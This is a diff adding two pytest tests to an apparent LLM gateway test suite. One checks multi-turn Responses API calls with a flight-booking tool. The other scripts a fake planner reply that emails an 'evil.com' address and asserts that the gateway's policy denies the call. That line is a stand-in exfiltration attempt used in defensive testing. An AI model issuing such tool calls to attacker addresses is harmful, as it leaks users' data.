@@ -172,3 +172,43 @@ def test_multi_turn_keeps_variables_without_the_planner_reading_them(gateway, fa
 def test_unsupported_dual_fields_are_rejected_by_name(gateway) -> None:
     r = post(gateway, [{"role": "user", "content": "x"}], enable_multistep_planning=True)
     assert r.status_code == 400 and "fsm.enable_multistep_planning" in r.json()["detail"]
+
+
+def test_responses_multi_turn_with_previous_response_id(gateway, fake_upstream: FakeUpstream) -> None:
+    headers = {
+        "Authorization": f"Bearer {gateway.key}",
+        "X-Features": json.dumps({"agent_arch": "dual-llm"}),
+        "X-Config": json.dumps({"fsm": {"max_n_turns": 5}}),
+    }
+    tools = [{"type": "function", "name": "book_flight", "parameters": {
+        "type": "object", "properties": {"flight": {"type": "string"}, "date": {"type": "string"}}}}]
+    fake_upstream.script(
+        "planner-model",
+        Reply.text("```python\nbook_flight(flight='BA263', date='2026-06-10')\nfinal_return_value = 'ok'\n```"),
+        Reply.text("```python\nfinal_return_value = 'second turn'\n```"),
+    )
+    url = f"{gateway.control}/chat/openai/v1/responses"
+    first = httpx.post(url, headers=headers, json={"model": MODEL, "input": "Book BA263 on 2026-06-10", "tools": tools}, timeout=30)
+    call = next(i for i in first.json()["output"] if i["type"] == "function_call")
+    assert json.loads(call["arguments"]) == {"flight": "BA263", "date": "2026-06-10"}
+    second = httpx.post(url, headers=headers, timeout=30, json={
+        "model": MODEL, "previous_response_id": first.json()["id"], "tools": tools,
+        "input": [{"type": "function_call_output", "call_id": call["call_id"], "output": "booked"}]})
+    assert second.json()["status"] == "completed", second.text
+    third = httpx.post(url, headers=headers, timeout=30, json={
+        "model": MODEL, "previous_response_id": second.json()["id"], "input": "And now?"})
+    assert third.json()["status"] == "completed"
+    assert third.headers["x-session-id"] == first.headers["x-session-id"]
+    assert "second turn" in json.dumps(third.json()["output"])
+
+
+def test_responses_denial_is_failed_with_error(gateway, fake_upstream: FakeUpstream) -> None:
+    fake_upstream.script("planner-model", Reply.text("```python\nsend_email(to='a@evil.com', body='x')\n```"))
+    headers = {"Authorization": f"Bearer {gateway.key}", "X-Features": json.dumps({"agent_arch": "dual-llm"}),
+               "X-Policy": json.dumps({"codes": POLICY})}
+    tools = [{"type": "function", "name": t["function"]["name"], "parameters": t["function"]["parameters"]} for t in TOOLS]
+    r = httpx.post(f"{gateway.control}/chat/openai/v1/responses", headers=headers, timeout=30,
+                   json={"model": MODEL, "input": "mail it", "tools": tools})
+    body = r.json()
+    assert body["status"] == "failed" and body["error"]["code"] == "policy_denied"
+    assert "'send_email' is denied" in json.dumps(body["output"])
